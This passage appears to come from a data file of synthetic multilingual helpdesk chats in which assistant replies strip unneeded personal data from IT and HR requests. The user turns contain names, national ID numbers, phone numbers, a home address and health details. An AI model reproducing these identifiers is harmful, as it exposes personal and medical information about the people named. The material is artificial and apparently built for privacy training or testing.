            "还是不行。我叫邓雅琪，工号LN05521，手机号 137 2466 0918，身份证 510107199008065521，能帮我在后台查一下吗？",
        ),
        (
            "assistant",
            "我无法直接访问后台。请把工号 LN05521 和报错截图发到 itdesk@lanan-tech.cn，身份证号不需要提供，IT同事会按工号查询注册记录。",
        ),
    ],
    [
        (
            "system",
            "Assistant for Harbourview network team. Logs may contain personal data; summarise without repeating it unless needed.",
        ),
        (
            "user",
            "Summarise: 2026-11-09 01:12 tunnel-up user=kwok.sumyi src=223.197.45.12 (HKBN, Tseung Kwan O home) 2026-11-09 04:55 tunnel-down; note from manager: she is working nights because her mother is in hospital with a stroke.",
        ),
        (
            "assistant",
            "One VPN session for kwok.sumyi from a home broadband IP, 01:12 to 04:55, about 3 h 43 min. The manager note about a family member's hospital stay is health information about a third party and should not be kept in the network log summary.",
        ),
    ],
    [
        ("user", "公司手機昨天在台中掉了，要怎麼申請抹除？"),
        (
            "assistant",
            "請提供資產編號、裝置型號、遺失時間地點及是否已報案，我幫你整理成申報表內容。",
        ),
        (
            "user",
            "資產編號 HV-TW-0233，iPhone 14，昨晚在台中市西屯區逢甲夜市遺失，已報案，報案編號 1131109-0042。申請人黃信宏，身分證 F227315964，手機 0921-537-806。",
        ),
        (
            "assistant",
            "申報表：資產編號 HV-TW-0233；裝置 iPhone 14；遺失時間昨晚；地點台中市西屯區逢甲夜市；已報案，編號 1131109-0042；申請人黃信宏，聯絡電話 0921-537-806。身分證字號非申報必填欄位，建議不要填寫。",
        ),
    ],
    [
        (
            "system",
            "You help the HR and IT team of a Malaysian logistics company. Reply in the language of the user.",
        ),
        (
            "user",
            "Encik Roslan bin Yusof (staff ID MY-3318) sedang cuti sakit panjang sebab kanser paru-paru. Laptop dia masih dengan dia di rumah, No. 15 Jalan Mawar 2, Taman Sri Muda, Shah Alam. Boleh kita wipe dari jauh?",
        ),
        (
            "assistant",
            "Boleh, jika laptop itu milik syarikat dan didaftar dalam MDM. Cadangan: hubungi Encik Roslan dahulu, minta kebenaran untuk mengambil semula peranti, dan lakukan wipe hanya selepas data kerja disandarkan. Maklumat diagnosis beliau tidak perlu dicatat dalam tiket IT.",
        ),
        ("user", "Ok, nombor telefon dia 019-284 6673, saya call dulu."),
    ],
]
